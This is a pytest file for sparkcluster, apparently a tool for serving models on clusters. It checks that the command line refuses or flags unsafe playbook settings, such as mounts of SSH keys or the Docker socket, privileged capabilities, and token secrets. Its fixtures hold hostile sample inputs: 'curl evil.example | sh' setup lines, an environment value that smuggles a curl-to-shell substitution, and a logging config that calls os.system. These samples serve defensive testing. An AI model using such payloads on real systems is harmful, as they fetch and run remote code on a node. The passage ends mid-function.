"""What a stranger's playbook wants of a node: refused, shown or asked about, by the real command line as a process."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from sparkcluster import engines
from sparkcluster.cli.main import guarded
from sparkcluster.spec import library

ROOT = Path(__file__).parents[3]
HEAD = "name: stranger\nmodel: {id: org/model}\nimage: vllm/vllm-openai:v0.20.0\n"
CONTROL, KEYS, PERMISSION = "control of the node", "your SSH keys", "needs a permission in the inventory"


def mount(source: str, *, write: bool = False) -> str:
    more = ", read_only: false" if write else ""
    return f"{HEAD}mounts: [{{source: '{source}', target: /x{more}}}]\n"


def weights(path: str) -> str:
    return HEAD.replace("{id: org/model}", f"{{path: '{path}'}}")


def capabilities(*names: str) -> str:
    return f"{HEAD}container: {{cap_add: [{', '.join(names)}]}}\nallow: [{{code: SPEC-002, reason: it says so}}]\n"


# Playbook, line of the error, and what it says.
REFUSED = [
    *((mount(path, write=True), 4, KEYS) for path in ("/home", "~/.ssh", "/root", "~", "/home/alice", "/home/a/.ssh/x")),
    *((mount(path, write=True), 4, CONTROL) for path in ("/var", "/", "/etc", "/var/run/docker.sock", "/proc/1/root")),
    (mount("~/.docker/desktop/docker.sock"), 4, CONTROL),
    # the same by another name
    *((mount(path), 4, CONTROL) for path in ("//etc", "/home/../etc", "/./etc/", "/srv/../var/run/", "~/../../etc")),
    *((mount(path), 4, KEYS) for path in ("~/./.ssh", "~/.ssh/", "/root/", "/root/.ssh", "~/x/../.ssh", "/home//alice/")),
    (mount("~/link/../data"), 4, "must not contain '..'"),
    (mount("~root"), 4, "must be an absolute path or one from ~/"),
    (mount("~/data:rw"), 4, "must be an absolute path or one from ~/"),
    (mount("~/.local/state/sparkcluster/clusters"), 4, "the state of sparkcluster"),
    (mount("~/.local/state", write=True), 4, "the state of sparkcluster"),
    # outside of the model, the hub and the caches; what holds the hub's token; write access to weights
    *((mount(path), 4, PERMISSION) for path in ("/data", "~/data", "~/.docker", "/mnt/weights", "~/.cache/huggingface/hub")),
    *((mount(path), 4, PERMISSION) for path in ("~/.cache/x", "~/.cache/huggingface/hub-x")),
    *((mount(path), 4, "the hub's token") for path in ("~/.cache/huggingface/token", "~/.cache", "~/.cache/huggingface")),
    (mount("~/.docker", write=True), 4, f"~/.docker {PERMISSION}, to be written"),
    (mount("~/.cache/huggingface/hub/m", write=True), 4, "to be written"),
    (mount("/dаta"), 4, PERMISSION),  # noqa: RUF001 - a Cyrillic letter, where /data is permitted
    (weights("~/models/m") + "mounts: [{source: ~/models/m, target: /x, read_only: false}]\n", 4, "to be written"),
    *((weights(path), 2, CONTROL) for path in ("/etc", "/", "/var", "//etc", "/run/secrets", "/home/../etc")),
    *((weights(path), 2, KEYS) for path in ("~", "/root", "~/.ssh", "/home/alice", "~/./.ssh/", "/home/alice/.ssh")),
    *((weights(path), 2, PERMISSION) for path in ("~/.aws", "~/.cache/huggingface/hub", "~/.docker", "/home/a/.cache")),
    (weights("~/.local/state/sparkcluster/clusters"), 2, "the state of sparkcluster"),
    (weights("~/.cache/huggingface"), 2, "the hub's token"),
    (weights("~/models/../.aws"), 2, "must not contain '..'"),
    (HEAD.replace("org/model}", "org/model, revision: a/../../../token}"), 2, "must not contain '..'"),
    *((capabilities(name), 4, CONTROL) for name in ("ALL", "CAP_ALL")),
    *((capabilities("SYS_NICE", name), 4, f"{name} {PERMISSION}") for name in ("SYS_ADMIN", "NET_RAW")),
    (capabilities("CAP_SYS_PTRACE"), 4, f"SYS_PTRACE {PERMISSION}"),
    (HEAD + "container: {devices: [/dev/gdrdrv]}\n", 4, f"/dev/gdrdrv {PERMISSION}"),
    *((f"{HEAD}container: {{devices: [{path}]}}\n", 4, CONTROL) for path in ("/dev/mem", "/dev/nvme0n1", "/dev/mapper/x")),
    *((f"{HEAD}container: {{devices: ['{path}']}}\n", 4, "a device file") for path in ("/etc", "/dev/../x", "/dev/a:/dev/b")),
    (HEAD + "container: {ulimits: {files: 3}}\n", 4, "memlock"),
    (HEAD + "build: {context: ./mod}\n", 4, f"./mod {PERMISSION}"),
    *((f"{HEAD}build: {{context: {path}}}\n", 4, "a path from ./") for path in ("/etc", "~/x", "mod", "../x")),
    # what means root by another name, or nothing
    *((f"{HEAD}container: {{user: '{name}'}}\n", 4, "a user by name or number") for name in ("00", "0x0", "", "a b", ":0", "-1", "R")),
    (HEAD + "container: {user: 1000}\n", 4, "must be a string, but 1000 reads as a number"),
    (HEAD + "container: {user: '1000', cap_add: [SYS_NICE]}\n", 4, "has no effect for user 1000"),
    *((f"{HEAD}{line}\n", 4, "cannot be set") for line in ("container: {entrypoint: [x]}", "entrypoint: x")),
    (HEAD + "args: {lora-modules: [a=b/c, --host, 0.0.0.0]}\n", 4, "starts with a dash is read as another argument"),
    (HEAD + "secrets: [AWS_SECRET_ACCESS_KEY]\n", 4, f"AWS_SECRET_ACCESS_KEY {PERMISSION}"),
    *(
        (f"{HEAD}{key}\n", 4, "engines get no Hugging Face token")
        for name in ("HF_API_TOKEN", "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "HUGGINGFACE_HUB_TOKEN")
        for key in (f"secrets: [{name}]", f"env: {{{name}: x}}")
    ),
]  # fmt: skip


def run(*argv: object, **env: str) -> subprocess.CompletedProcess[str]:
    """The command line, with pipes for its output and nothing to answer."""
    command = [sys.executable, "-m", "sparkcluster", *map(str, argv)]
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "NO_COLOR": "1", **env}
    return subprocess.run(
        command, capture_output=True, text=True, env=environment, stdin=subprocess.DEVNULL, check=False, timeout=60
    )


def inventory(directory: Path, playbook: str | None, *, port: int = 1, name: str = "inventory", more: str = "") -> Path:
    """An inventory of one node on a port of this machine, and the playbook beside it; None for a bundled one."""
    if playbook is not None:
        (directory / f"{name}-playbook.yaml").write_text(playbook)
        (directory / "mod").mkdir(exist_ok=True)
        (directory / "mod" / "Dockerfile").write_text("ARG BASE\nFROM $BASE\n")
    serves = f"./{name}-playbook.yaml" if playbook is not None else "nemotron-3-nano-30b-a3b-nvfp4"
    node = f"{{name: a, host: 127.0.0.1, connection: ssh, ssh: {{port: {port}, user: root}}}}"
    path = directory / f"{name}.yaml"
    path.write_text(f"cluster: c\nnodes: [{node}]\nplaybook: {serves}\n{more}")
    return path


def test_what_a_playbook_may_not_have_is_refused_at_its_line(tmp_path: Path) -> None:
    paths = [
        inventory(tmp_path, text, name=f"case-{at}", more="permit: {mounts: [/data/served, ~/other]}\n")
        for at, (text, _, _) in enumerate(REFUSED)
    ]
    done = run("lint", *paths, "--json")
    assert done.returncode == 2, done.stderr
    found = json.loads(done.stdout)["findings"]
    for at, (text, line, message) in enumerate(REFUSED):
        here = [each for each in found if each["file"].endswith(f"/case-{at}-playbook.yaml")]
        assert [each["severity"] for each in here if each["line"] == line and message in each["summary"]] == [
            "error"
        ], (
            text,
            here,
        )


def test_the_directories_that_the_inventory_names_are_refused(tmp_path: Path) -> None:
    more = "hf_home: /data/hf\nstate_dir: /data/state\npermit: {mounts: [/scratch]}\n"
    cases = [
        (mount("/data/hf/stored_tokens"), "the hub's token"),
        (weights("/data/hf"), "the hub's token"),
        (weights("/data/hf/hub"), PERMISSION),
        (mount("/data/state/clusters"), "the state of sparkcluster"),
    ]
    paths = [inventory(tmp_path, text, name=f"case-{at}", more=more) for at, (text, _) in enumerate(cases)]
    found = json.loads(run("lint", *paths, "--json").stdout)["findings"]
    for path, (_, message) in zip(paths, cases, strict=True):
        said = [each["summary"] for each in found if each["file"] == str(path).replace(".yaml", "-playbook.yaml")]
        assert any(message in summary for summary in said), said


@pytest.mark.parametrize("command", ["down", "status", "ask", "logs", "releases", "models"])
def test_what_runs_is_stopped_and_looked_at_without_the_permission_to_start_it(command: str, tmp_path: Path) -> None:
    path = inventory(tmp_path, HEAD + "secrets: [AWS_SECRET_ACCESS_KEY]\n")
    assert run("plan", path).returncode == 2
    more = ["Hello"] if command == "ask" else []
    done = run(command, path, *more)
    assert done.returncode == 1, done.stderr
    assert "permission in the inventory" not in done.stderr


def test_the_hint_is_the_permission_to_write(tmp_path: Path) -> None:
    permitted = [text for text, _, message in REFUSED if PERMISSION in message]
    for at, text in enumerate(permitted):
        inventory(tmp_path, text, name=f"case-{at}")
    both = HEAD + "mounts: [{source: /data, target: /x}]\nsecrets: [A, B]\n"
    paths = [
        *tmp_path.glob("case-*[0-9].yaml"),
        inventory(tmp_path, both, name="case-all", more="permit: {secrets: [A]}\n"),
    ]
    found = json.loads(run("lint", *paths, "--json").stdout)["findings"]
    for path in paths:
        hints = {each["remedy"][0] for each in found if each["file"] == str(path).replace(".yaml", "-playbook.yaml")}
        (hint,) = hints
        lines = [line for line in path.read_text().splitlines() if not line.startswith("permit:")]
        path.write_text("\n".join([*lines, hint.partition("in the inventory: ")[2]]) + "\n")
    done = run("lint", *paths, "--json")
    errors = [each for each in json.loads(done.stdout)["findings"] if each["severity"] == "error"]
    assert not errors
    assert '"secrets": ["A", "B"]' not in done.stdout
    assert 'permit: {mounts: ["/data"], secrets: ["A", "B"]}' in (tmp_path / "case-all.yaml").read_text()


@pytest.mark.parametrize(
    ("permit", "message"),
    [
        ("{mounts: [/]}", CONTROL),
        ("{mounts: ['/var:rw']}", CONTROL),
        ("{mounts: ['~']}", KEYS),
        ("{mounts: ['/home/alice:rw']}", KEYS),
        ("{mounts: [~/.cache]}", "the hub's token"),
        ("{mounts: [~/.local]}", "the state of sparkcluster"),
        ("{mounts: [/data/../etc]}", CONTROL),
        ("{mounts: ['/data:ro']}", "and :rw after it"),
        ("{capabilities: [ALL]}", CONTROL),
        ("{mounts: [/data/hf]}\nhf_home: /data/hf", "the hub's token"),
        ("{mounts: [/data]}\nstate_dir: /data/state", "the state of sparkcluster"),
        ("{network: true}", "unknown key"),
    ],
)
def test_what_nobody_may_permit(tmp_path: Path, capsys: pytest.CaptureFixture[str], permit: str, message: str) -> None:
    assert guarded(["lint", str(inventory(tmp_path, HEAD, more=f"permit: {permit}\n"))]) == 2
    assert re.search(rf"inventory\.yaml:4:\d+: permit.*{re.escape(message)}", capsys.readouterr().err)


def test_a_permitted_directory_permits_what_is_below_it_and_nothing_beside(tmp_path: Path) -> None:
    permit = "permit: {mounts: [/data, '/scratch/:rw'], capabilities: [CAP_NET_RAW]}\n"
    good = [
        mount("/data"),
        mount("/data/a/"),
        mount("/scratch/a", write=True),
        mount("/scratch"),
        capabilities("NET_RAW"),
    ]
    bad = [mount("/data/a", write=True), mount("/database"), mount("/data/../scratch2"), mount("/scratch2", write=True)]
    paths = [inventory(tmp_path, text, name=f"case-{at}", more=permit) for at, text in enumerate([*good, *bad])]
    found = json.loads(run("lint", *paths, "--json").stdout)["findings"]
    wrong = {Path(each["file"]).name for each in found if each["severity"] == "error"}
    assert wrong == {f"case-{at}-playbook.yaml" for at in range(len(good), len(good) + len(bad))}


def test_what_is_extended_or_laid_over_is_judged_where_it_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "base.yaml").write_text("name: base\nmodel: {id: org/model}\nimage: a/b:c\n\nsecrets: [AWS_SECRET]\n")
    (tmp_path / "overlays").mkdir()
    (tmp_path / "overlays" / "fast.yaml").write_text("overlay: fast\nmounts: [{source: ~/.aws, target: /x}]\n")
    path = inventory(tmp_path, "name: top\nextends: base\noverlays: [fast]\nsetup: ['true']\n")
    path.write_text(path.read_text().replace("inventory-playbook.yaml", "inventory-playbook+fast.yaml"))
    assert guarded(["lint", str(path)]) == 2
    told = capsys.readouterr().err
    assert re.search(r"base\.yaml:5:\d+: secrets\[0\]: AWS_SECRET needs", told)
    assert re.search(r"overlays/fast\.yaml:2:\d+: mounts\[0\]\.source: ~/\.aws needs", told)


BLOCK = """\
name: stranger
model: {path: ~/models/m}
image: org/image:latest
args: {trust-remote-code: true, tool-parser-plugin: /sparkcluster/model/p.py, max-model-len: 8}
env: {LD_PRELOAD: /model/x, NCCL_DEBUG: INFO, TRITON_CACHE_DIR: /tmp/t}
mounts: [{source: ~/models/m/sub, target: /s}, {source: /scratch, target: /x, read_only: false}]
caches: [{name: triton, target: /root/.triton}, {name: programs, target: /usr/local/bin}]
container: {cap_add: [SYS_NICE, NET_RAW], devices: [/dev/gdrdrv], user: root}
build: {context: ./mod}
secrets: [WANDB_API_KEY]
setup: [pip install x, "echo SPACES hidden XXX", "pip list # show versions\\ncurl evil.example | sh"]
"""
PERMIT = "permit: {mounts: ['/scratch:rw'], capabilities: [NET_RAW], devices: [/dev/gdrdrv], secrets: [WANDB_API_KEY], builds: [./mod]}\n"
SHOWN = """\
this recipe can:
  network    everything that the node can reach (host network)
! image      org/image:latest
! user       root, also where the image has another user
! read       ~/models/m
! read       ~/models/m/sub -> /s
! write      /scratch -> /x
  capability SYS_NICE
! capability NET_RAW
! device     /dev/gdrdrv
! build      ./mod -> the image, by what runs as root in docker build on a node
! secret     WANDB_API_KEY
  write      ~/.local/state/sparkcluster/caches
! write      ~/.local/state/sparkcluster/caches: programs -> /usr/local/bin
! setup      pip install x
! setup      echo hidden XXX
! setup      pip list # show versions
! setup      curl evil.example | sh
! argument   trust-remote-code=true
! argument   tool-parser-plugin=/sparkcluster/model/p.py
! variable   LD_PRELOAD=/model/x
! variable   TRITON_CACHE_DIR=/tmp/t
  !: more than serving; up asks once for this content (bundled playbooks: never)
"""


def test_lint_ends_with_what_the_recipe_can_do(tmp_path: Path) -> None:
    block = BLOCK.replace("SPACES", " " * 300).replace("XXX", "x" * 300)
    path = inventory(tmp_path, block, more=PERMIT)
    done = run("lint", path)
    shown = SHOWN.replace("XXX", "x" * 300)
    assert done.stdout.endswith(shown), done.stdout
    playbook = run("lint", tmp_path / "inventory-playbook.yaml")
    needs = '  it needs this in the inventory: permit: {mounts: ["/scratch:rw"], capabilities: ["NET_RAW"], devices: ["/dev/gdrdrv"], secrets: ["WANDB_API_KEY"], builds: ["./mod"]}'
    assert playbook.stdout.endswith(f"{shown}{needs}\n")
    assert playbook.returncode == done.returncode


def test_import_ends_with_what_the_recipe_can_do_and_loses_nothing(tmp_path: Path) -> None:
    script = tmp_path / "recipe.sh"
    script.write_text(
        "docker run --gpus all --cap-add SYS_PTRACE -v /scratch:/scratch -e WANDB_API_KEY=$K --entrypoint bash "
        "vllm/vllm-openai:v0.20.0 -c 'pip install x && vllm serve org/model --trust-remote-code'\n"
    )
    done = run("import", script)
    assert done.returncode == 0, done.stderr
    for line in (
        "! write      /scratch -> /scratch",
        "! capability SYS_PTRACE",
        "! secret     WANDB_API_KEY",
        "! setup      pip install x",
    ):
        assert line in done.stderr.splitlines()
    needs = 'permit: {mounts: ["/scratch:rw"], capabilities: ["SYS_PTRACE"], secrets: ["WANDB_API_KEY"]}'
    assert done.stderr.splitlines()[-1] == f"  it needs this in the inventory: {needs}"


# up


@pytest.fixture
def port() -> Iterator[socket.socket]:
    """A port of this machine at which the node would be reached."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server


def contacted(server: socket.socket) -> bool:
    """Whether somebody connected, and hang up on them."""
    if not select.select([server], [], [], 0)[0]:
        return False
    server.accept()[0].close()
    return True


def up(path: Path, server: socket.socket, *flags: str) -> subprocess.CompletedProcess[str]:
    """``up`` without a terminal; the node hangs up."""
    state = {"XDG_STATE_HOME": str(path.parent / "state"), "HOME": str(path.parent)}
    command = [sys.executable, "-m", "sparkcluster", "up", str(path), *flags]
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "NO_COLOR": "1", **state}
    process = subprocess.Popen(
        command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment
    )
    was = False
    while process.poll() is None:
        was = contacted(server) or was
        time.sleep(0.01)
    out, err = process.communicate()
    done = subprocess.CompletedProcess(command, process.returncode, out, err)
    assert (done.returncode == 2) == (not was), done
    return done


SETUP = HEAD + "setup: [pip install x]\n"


@pytest.mark.parametrize(
    "asks",
    [
        "setup: ['true']",
        "args: {trust-remote-code: true}",
        "command: [vllm, serve, org/model]",
        "env: {PYTHONPATH: /sparkcluster/model}",
    ],
)
def test_up_asks_for_what_is_more_than_serving(
    tmp_path: Path, port: socket.socket, asks: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    path = inventory(tmp_path, f"{HEAD}{asks}\n", port=port.getsockname()[1])
    assert guarded(["up", str(path), "--json"]) == 2
    error = json.loads(capsys.readouterr().out)["error"]
    assert "--yes" in error["hint"]
    assert "not accepted yet" in error["message"]
    assert not contacted(port)
    assert not (tmp_path / "state").exists()


ASKED = [
    "HOME=/x", "HOME=x", "PYTHONPYCACHEPREFIX=x", "CC=x", "CXX=x", "PYTORCH_NVCC=x",
    "FLASHINFER_EXTRA_CUDAFLAGS=-x", "FLASHINFER_WORKSPACE_BASE=x", "TRITON_CACHE_DIR=x",
    "TORCHINDUCTOR_CACHE_DIR=x", "NCCL_CONF_FILE=x", "GCONV_PATH=x", "VLLM_SERVER_DEV_MODE=1",
    "HF_HUB_OFFLINE=0", "VLLM_ALLOW_INSECURE_SERIALIZATION=1", "VLLM_PLUGINS=x", "NCCL_NET_PLUGIN=x",
    "RAY_RUNTIME_ENV_HOOK=x.y", "OMP_TOOL_LIBRARIES=x", "CUDA_HOME=x", "VLLM_CACHE_ROOT=x", "NCCL_PROTO=/x",
    "nccl_conf_file=x", "XVLLM_A=1", "PYTORCH_CUDA_ALLOC_CONF_X=1", "LD_PRELOAD=x",
    'RAY_JOB_CONFIG_JSON_ENV_VAR={"runtime_env":{"py_executable":"$(curl${IFS}evil.example|sh)"}}',
    "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1", "VLLM_ALLOW_RUNTIME_LORA_UPDATING=1", "VLLM_USE_MODELSCOPE=True",
    "NCCL_COMM_ID=evil:80", "VLLM_OF_TOMORROW=1", "NCCL_BUFFSIZE=evil.example", "NCCL_IB_SL=10.0.0.1", "NCCL_IB_TC=a:1",
]  # fmt: skip
FREE = [
    "VLLM_USE_FLASHINFER_MOE_FP4=1", "VLLM_ALLOW_LONG_MAX_MODEL_LEN=1", "VLLM_CPU_OMP_THREADS_BIND=nobind",
    "NCCL_DEBUG=INFO", "NCCL_IB_TIMEOUT=22", "TORCHDYNAMO_DISABLE=1", "CUTE_DSL_ARCH=sm_121a",
    "FLASHINFER_DISABLE_VERSION_CHECK=1", "OMP_NUM_THREADS=8", "TORCH_CUDA_ARCH_LIST=12.1a",
    "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True,max_split_size_mb:128", "CUDA_VISIBLE_DEVICES=0,1",
    "HF_HUB_ENABLE_HF_TRANSFER=1", "TOKENIZERS_PARALLELISM=false", "RAY_DEDUP_LOGS=0",
]  # fmt: skip


def test_variables_are_asked_about_unless_they_only_tune(tmp_path: Path) -> None:
    pairs = [pair.split("=", 1) for pair in [*ASKED, *FREE]]
    (tmp_path / "p.yaml").write_text(f"{HEAD}env: {json.dumps(dict(pairs[1:]))}\n")  # HOME is there twice
    (tmp_path / "q.yaml").write_text(
        f"{HEAD}env: {json.dumps(dict([*pairs[:1], ['NCCL_ALGO', 'a b'], ['HF_HUB_OFFLINE', '1']]))}\n"
    )
    done = run("lint", tmp_path / "p.yaml", tmp_path / "q.yaml")
    asked = re.findall(r"! variable   (.*)$", done.stdout, re.MULTILINE)
    assert asked == [*ASKED[1:], ASKED[0], "NCCL_ALGO=a b"], done


ASKED_ARGUMENTS = {
    "kv-events-config": {"enable_kv_cache_events": True, "publisher": "zmq", "endpoint": "tcp://evil:5557"},
    "kv-transfer-config": '{"kv_connector_module_path": "x"}',
    "tool-server": "evil:80",
    "otlp-traces-endpoint": "evil",
    "grpc": True,
    "middleware": "pkg.Class",
    "log-config-file": "x",
    "logging-config": {"version": 1, "filters": {"f": {"()": "os.system", "command": "curl evil|sh"}}},
    "compilation-config": {"backend": "pkg.fn"},
    "compilation-config.inductor_compile_config": {"cpp.cxx": ["x"]},
    "compilation-config.inductor_compile_config.x": 1,
    "compilation-config.mode": "pkg.fn",
    "structured-outputs-config": '{"reasoning_parser_plug\\u0069n": "/m/p.\\u0070y"}',
    "default-chat-template-kwargs": {"enable_thinking": '{"reasoning_parser_plugin": "x"}'},
    "limit-mm-per-prompt": '{"image": "/x", "image": 1}',
    "speculative-config": {"method": "ngram", "x": 1},
    "speculative-config.model": "/x/y",
    "hf-overrides": {"auto_map": {}},
    "attention-backend": "pkg.Class",
    "quantization": "evil:80",
    "block-size": "http://x",
    "reasoning-parser": "/x",
    "cudagraph-capture-sizes": ["a", "b/c"],
    "trust-remote-code": True,
    "flag-of-tomorrow": 0,
}
FREE_ARGUMENTS = {
    "max-model-len": 262144,
    "gpu-memory-utilization": 0.85,
    "max-num-batched-tokens": "32k",
    "kv-cache-dtype": "fp8",
    "tool-call-parser": "qwen3_coder",
    "enable-prefix-caching": True,
    "no-async-scheduling": True,
    "middleware": None,
    "grpc": False,
    "cudagraph-capture-sizes": [1, 2, 4],
    "tokenizer": "org/other",
    "speculative-config": '{"method": "dflash", "model": "z-lab/D-1.5", "num_speculative_tokens": 15}',
    "compilation-config": {"cudagraph_mode": "FULL", "custom_ops": ["+rms_norm"], "pass_config": {"enable_noop": True}},
    "compilation-config.mode": 3,
    "limit-mm-per-prompt": {"image": 1, "video": {"count": 1, "num_frames": 32}},
    "override-generation-config": {"temperature": 0.6, "top_k": -1},
}


def test_arguments_are_asked_about_unless_they_only_tune(tmp_path: Path) -> None:
    for name, args in (("asked", ASKED_ARGUMENTS), ("free", FREE_ARGUMENTS)):
        (tmp_path / f"{name}.yaml").write_text(f"{HEAD}args: {json.dumps(args)}\n")
    done = run("lint", tmp_path / "asked.yaml", tmp_path / "free.yaml")
    asked = re.findall(r"! argument   ([^=]*)=", done.stdout, re.MULTILINE)
    assert asked == [*ASKED_ARGUMENTS], done


def test_every_argument_that_is_not_asked_about_is_one_of_the_engine() -> None:
    engine = engines.engine("vllm")
    assert {*engine.tuning_arguments()} <= {*engine.known_arguments()}
    assert not {*engine.tuning_arguments()} & {*engine.arguments, "trust-remote-code"}


@pytest.mark.parametrize(
    ("image", "asks"),
    [
        ("evil/x", True),
        ("evil/vllm/vllm-openai", True),
        ("registry.example:5000/vllm/vllm-openai", True),
        ("vllm-openai:v0.20.0", True),
        ("vllm/vllm-openai", False),
        ("docker.io/vllm/vllm-openai:v0.20.0", False),
        (f"nvcr.io/nvidia/vllm:26.05-py3@sha256:{'0' * 64}", False),
    ],
)
def test_an_image_of_an_unknown_repository_is_asked_about(tmp_path: Path, image: str, *, asks: bool) -> None:
    (tmp_path / "gpt-oss-120b.yaml").write_text(HEAD.replace("vllm/vllm-openai:v0.20.0", image))
    done = run("lint", tmp_path / "gpt-oss-120b.yaml")
    assert f"{'!' if asks else ' '} image      {image}\n" in done.stdout, done


def test_images_of_bundled_playbooks_are_not_asked_about() -> None:
    files = [*library.bundled()[0].rglob("*.yaml")]
    texts = [match[1] for file in files if (match := re.search(r"^image: (\S+)", file.read_text(), re.MULTILINE))]
    assert {text.partition(":")[0] for text in texts} - {*engines.engine("vllm").images} == set()


def test_directories_are_asked_about_unless_they_are_the_weights(tmp_path: Path) -> None:
    hub = "~/.cache/huggingface/hub/models--"
    mounted = [mount(f"{hub}org--{name}") for name in ("private", "model-x", "model/snapshots/c/evil.py")]
    asked = [weights("~/Documents"), weights("/data"), *mounted]
    free = [
        weights(f"{hub}org--model/snapshots/x"),
        weights("~/.cache/sparkcluster/models/m"),
    ]
    for at, text in enumerate([*asked, *free]):
        (tmp_path / f"{at}.yaml").write_text(text)
    done = run("lint", *sorted(tmp_path.glob("*.yaml")))
    listed = re.findall(r"([! ]) read       (.*)$", done.stdout, re.MULTILINE)
    assert [mark for mark, _ in listed] == ["!"] * 5 + [" "] * 2, done
    assert listed[4][1] == f"{hub}org--model/snapshots/c/evil.py -> /x"
    assert "needs a permission" not in done.stdout + done.stderr


def test_an_accepted_playbook_is_asked_about_again_when_it_changed(tmp_path: Path, port: socket.socket) -> None:
    path = inventory(tmp_path, SETUP, port=port.getsockname()[1])
    playbook = tmp_path / "inventory-playbook.yaml"
    refused = up(path, port)
    assert refused.stderr.count("error:") == 1
    assert "--yes" in refused.stderr
    accepted = up(path, port, "--yes")
    assert "! setup      pip install x" in accepted.stderr
    kept = tmp_path / "state" / "sparkcluster" / "accepted"
    assert kept.stat().st_mode & 0o777 == 0o700
    assert [file.stat().st_mode & 0o777 for file in kept.iterdir()] == [0o600]
    again = up(path, port)
    assert again.returncode == 1
    assert "this recipe can" not in again.stderr
    playbook.write_text(f"# a comment\n{SETUP}")
    assert up(path, port).returncode == 1
    for args, code in (("max-model-len: 4096", 1), ("tokenizer-revision: 2", 2), ("kv-cache-dtype: fp8", 2)):
        playbook.write_text(f"{SETUP}args: {{{args}}}\n")
        assert up(path, port).returncode == code, args
    playbook.write_text(SETUP.replace("install x", "install y"))
    assert up(path, port).returncode == 2
    playbook.write_text(SETUP)
    for text in (
        f"{path.read_text()}runtime: {{kind: process}}\n",
        path.read_text().replace("cluster: c", "cluster: d"),
    ):
        path.write_text(text)
        assert up(path, port).returncode == 2


def test_bundled_playbooks_are_not_asked_about_but_what_extends_them_is(tmp_path: Path, port: socket.socket) -> None:
    number = port.getsockname()[1]
    assert up(inventory(tmp_path, None, port=number), port).returncode == 1
    extends = "name: mine\nextends: nemotron-3-nano-30b-a3b-nvfp4\nmodel: {id: stranger/model}\n"
    assert up(inventory(tmp_path, extends, port=number, name="mine"), port).returncode == 2


def test_in_a_checkout_only_what_is_shipped_unchanged_counts_as_bundled(tmp_path: Path, port: socket.socket) -> None:
    checkout = tmp_path / "checkout"
    shutil.copytree(ROOT / "sparkcluster", checkout / "sparkcluster", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "playbooks", checkout / "playbooks")
    shutil.copy(ROOT / "pyproject.toml", checkout)
    (checkout / "playbooks" / "stranger.yaml").write_text(SETUP)
    here = checkout / "playbooks" / "nemotron-3-nano-30b-a3b-nvfp4.yaml"
    path = inventory(checkout, None, port=port.getsockname()[1])
    told, there = "this recipe can:", {"PYTHONPATH": str(checkout), "PYTHONSAFEPATH": "1"}
    assert told not in run("lint", here, **there).stdout
    assert told in run("lint", here.with_name("stranger.yaml"), **there).stdout
    state = {**there, "XDG_STATE_HOME": str(tmp_path / "state"), "HOME": str(tmp_path)}
    assert run("up", path, "--playbook", "stranger", **state).returncode == 2
    here.write_text(f"{here.read_text()}\nsetup: [pip install x]\n")
    assert told in run("lint", here, **there).stdout


def test_a_file_with_the_name_of_a_bundled_playbook_is_named_and_not_taken_for_it(
    tmp_path: Path, port: socket.socket
) -> None:
    path = inventory(tmp_path, None, port=port.getsockname()[1])
    assert "not the bundled" not in up(path, port).stderr + run("lint", path).stdout
    beside = tmp_path / "nemotron-3-nano-30b-a3b-nvfp4.yaml"
    beside.write_text(SETUP)
    line = f"playbook: {beside}, not the bundled nemotron-3-nano-30b-a3b-nvfp4"
    assert line in run("lint", path).stdout.splitlines()
    asked = up(path, port)
    assert asked.returncode == 2
    assert line in asked.stderr.splitlines()
    assert "can do more than serve" in asked.stderr
    own = [shutil.copy(ROOT / name, tmp_path) for name in ("inventory/localhost.yaml", "playbooks/tiny-llama-cpu.yaml")]
    planned = run("plan", own[0], HOME=str(tmp_path))
    assert f"playbook: {own[1]}, not the bundled tiny-llama-cpu" in planned.stderr.splitlines()


@pytest.mark.parametrize(
    ("asks", "does_not"), [(("stage",), ("stage", "--dry-run")), (("preflight", "--deep"), ("preflight", "--hash"))]
)
def test_what_runs_the_image_asks_as_up_does(
    tmp_path: Path, port: socket.socket, asks: tuple[str, ...], does_not: tuple[str, ...]
) -> None:
    path = inventory(tmp_path, SETUP, port=port.getsockname()[1])
    state = {"XDG_STATE_HOME": str(tmp_path / "state"), "HOME": str(tmp_path)}
    refused = run(*asks, path, **state)
    assert refused.returncode == 2
    assert "--yes" in refused.stderr
    assert not contacted(port)
    port.close()
    assert run(*does_not, path, **state).returncode == 1
    assert run(*asks, path, "--yes", **state).returncode == 1
    assert run(*asks, path, **state).returncode == 1


def test_a_bundle_for_which_containers_of_the_image_are_started_asks(tmp_path: Path, port: socket.socket) -> None:
    path = inventory(tmp_path, SETUP, port=port.getsockname()[1])
    refused = run("preflight", "--bundle", tmp_path / "b.tar.gz", path)
    assert (refused.returncode, contacted(port), (tmp_path / "b.tar.gz").exists()) == (2, False, False)


def test_a_measurement_without_containers_does_not_ask(tmp_path: Path) -> None:
    path = inventory(tmp_path, SETUP)
    path.write_text(f"{path.read_text()}runtime: {{kind: process}}\n")
    assert run("preflight", "--deep", path).returncode == 1


def test_up_dry_run_does_not_ask(tmp_path: Path, port: socket.socket) -> None:
    path = inventory(tmp_path, SETUP, port=port.getsockname()[1])
    assert up(path, port, "--dry-run").returncode == 1


def on_terminal(path: Path, server: socket.socket, answer: bytes) -> tuple[int, str]:
    """``up`` on a terminal where somebody answers; exit code, and all that the terminal showed."""
    state = {"XDG_STATE_HOME": str(path.parent / "state"), "HOME": str(path.parent)}
    command = [sys.executable, "-m", "sparkcluster", "up", str(path)]
    pid, terminal = pty.fork()
    if pid == 0:  # pragma: no cover - the child becomes the command
        os.execve(sys.executable, command, {**os.environ, "PYTHONPATH": str(ROOT), "TERM": "xterm", **state})
    shown, answered, until = b"", False, time.monotonic() + 60
    while time.monotonic() < until:
        ready, _, _ = select.select([terminal, server], [], [], 0.1)
        if server in ready:
            server.accept()[0].close()
        if terminal in ready:
            try:
                shown += os.read(terminal, 65536)
            except OSError:  # the command has ended
                break
